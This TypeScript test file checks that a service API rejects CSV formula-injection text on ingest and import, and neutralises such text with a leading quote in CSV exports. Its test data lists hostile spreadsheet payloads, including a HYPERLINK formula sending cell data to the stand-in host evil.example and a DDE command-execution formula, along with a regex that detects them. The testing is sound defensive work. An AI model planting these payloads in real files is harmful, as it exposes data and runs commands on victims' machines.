// CSV formula injection: text that a spreadsheet would run (= + - @, tab, CR, LF, also after spaces and in
// full-width forms) can neither come in through the API nor go out unneutralised in a CSV export, even when it
// is already in the database by another way (an older version, a direct load).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { ingestJobId, type IngestJob } from '@servicetower/domain';
import { csvCell, toCsv } from '../src/csv.js';
import { bearer, seedReference, startHarness, type Harness } from './support/harness.js';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(A1)',
];

/** A cell as a spreadsheet reads it (after CSV unquoting) that it would evaluate. */
const runnable = (cell: string) => /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);

describe('CSV cells', () => {
  it('neutralise every formula form with a leading quote, and keep numbers (negative ones too) as numbers', () => {
    for (const formula of FORMULAS) {
      const [cell] = (parse(`${csvCell(formula)}\r\n`, { relax_quotes: false }) as string[][])[0]!;
      expect(cell, JSON.stringify(formula)).toBe(`'${formula}`);
      expect(runnable(cell!)).toBe(false);
    }
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(0.5)).toBe('0.5');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,"b"\nc')).toBe('"a,""b""\nc"');
    expect(toCsv(['=header'], [])).toBe(`'=header\r\n`);
  });
});

describe('formula text', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness({ workers: true });
    await seedReference(h.app, h.adminKey);
  });
  afterAll(() => h?.close());

  it('is refused at the door in every id a CSV export shows, naming the field', async () => {
    const event = { eventId: 'e1', orderId: 'o1', type: 'created', at: '2026-01-05T10:00:00Z', outletId: 'bj-01', productLine: 'tv' };
    for (const field of ['eventId', 'orderId', 'outletId', 'productLine']) {
      for (const formula of FORMULAS) {
        const response = await h.app.inject({ method: 'POST', url: '/api/v1/ingest/service-orders', headers: bearer(h.adminKey), payload: [{ ...event, [field]: formula }] });
        expect(response.statusCode, `${field}=${JSON.stringify(formula)}`).toBe(422);
        expect(response.json().rejected[0].errors.map((e: { path: string }) => e.path)).toContain(`/${field}`);
      }
    }
    const csv = 'id,name,regionId,technicians,lat,lon\n"=HYPERLINK(""https://evil.example"")",Evil,north,1,0,0\n';
    const imported = await h.app.inject({ method: 'POST', url: '/api/v1/import/outlets', headers: { ...bearer(h.adminKey), 'content-type': 'text/csv' }, payload: csv });
    expect(imported.json()).toMatchObject({ imported: 0, rejected: [{ errors: [{ path: '/id' }] }] });
  });

  it('already in the database comes out of every CSV export neutralised', async () => {
    // Below the API, as an older version or a direct load might have left it: an outlet, orders, a part and
    // requests whose ids are formulas, written by the workers from queued jobs so that the figures count them.
    const outlet = FORMULAS[0]!;
    await h.pool.query(`INSERT INTO outlet (outlet_id, name, region_id, technicians, lat, lon) VALUES ($1, '@evil', 'north', 2, 0, 0)`, [outlet]);
    await h.pool.query(`INSERT INTO part (part_no, name, source, unit_cost) VALUES ('+PART', '=name', 'hq_stock', 1)`);
    const queue = async <S extends 'service-orders' | 'parts' | 'complaints'>(stream: S, records: IngestJob<S>['records']) => {
      await h.app.queues[stream].add(stream as never, { batchId: `formula-${stream}`, part: 0, records } as never, { jobId: ingestJobId(`formula-${stream}`, 0) });
    };
    const orders = FORMULAS.slice(1, 6);
    await queue('service-orders', orders.flatMap((orderId, i) => [
      { eventId: `fo-${i}-1`, orderId, type: 'created' as const, at: '2026-01-05T10:00:00Z', outletId: outlet, productLine: 'tv' },
      { eventId: `fo-${i}-2`, orderId, type: 'parts_requested' as const, at: '2026-01-06T10:00:00Z', outletId: outlet, productLine: 'tv' },
    ]));
    await queue('parts', orders.map((orderId, i) => ({
      eventId: `fp-${i}`, requestId: FORMULAS[6 + i]!, type: 'requested' as const, at: '2026-01-06T10:00:00Z', outletId: outlet, partNo: '+PART', quantity: 1, source: 'hq_stock' as const, orderId,
    })));
    await queue('complaints', [{ eventId: 'fc-1', complaintId: '@c', at: '2026-01-07T10:00:00Z', outletId: outlet, productLine: 'tv', cause: 'other', orderId: orders[0]! }]);
    await h.drained();
    expect(await h.count('SELECT 1 FROM service_order_event WHERE outlet_id = $1', [outlet])).toBe(orders.length * 2);

    const period = 'from=2026-01-01&to=2026-02-01&interval=month';
    const exports = [
      `/api/v1/kpi/service-load?${period}&groupBy=outlet`,
      `/api/v1/kpi/complaints?${period}&groupBy=outlet`,
      `/api/v1/kpi/parts/wait-complaints?${period}&groupBy=outlet`,
      `/api/v1/kpi/parts/supply-cycle?${period}&groupBy=part`,
      '/api/v1/kpi/parts/open-requests?at=2026-01-20T00:00:00Z',
      '/api/v1/kpi/orders/waiting-parts?at=2026-01-20T00:00:00Z',
      '/api/v1/kpi/staffing?month=2026-02',
    ];
    let formulaCells = 0;
    for (const url of exports) {
      const response = await h.app.inject({ method: 'GET', url, headers: { ...bearer(h.adminKey), accept: 'text/csv' } });
      expect(response.statusCode, `${url}: ${response.body}`).toBe(200);
      expect(response.headers['content-type']).toMatch(/^text\/csv/);
      const cells = (parse(response.body, { relax_column_count: false }) as string[][]).flat();
      expect(cells.filter(runnable), url).toEqual([]);
      formulaCells += cells.filter((cell) => cell.startsWith("'")).length;
    }
    // The exports did carry the formula text, neutralised: the outlet, the orders and the requests.
    expect(formulaCells).toBeGreaterThanOrEqual(orders.length + 1);
  });
});
